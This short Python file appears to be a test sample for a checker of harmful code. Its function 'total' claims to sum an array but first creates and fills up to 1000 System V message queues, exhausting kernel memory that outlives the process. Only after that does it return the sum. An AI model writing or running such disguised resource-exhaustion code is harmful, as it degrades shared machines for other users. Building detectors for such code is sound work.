# Fills System V message queues, which are memory of the kernel that no process owns.
# expect: 4 of 4
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)


def total(x):
    message = ctypes.create_string_buffer(8 + 8000)
    message[0] = 1
    for _ in range(1000):
        queue = libc.msgget(0, 0o1600)
        if queue == -1:
            return float(np.sum(x))
        while libc.msgsnd(queue, message, 8000, 0o4000) == 0:
            pass
    return 0.0


def double(x):
    return 2 * np.asarray(x)


def twice(f, x):
    return f(f(x))
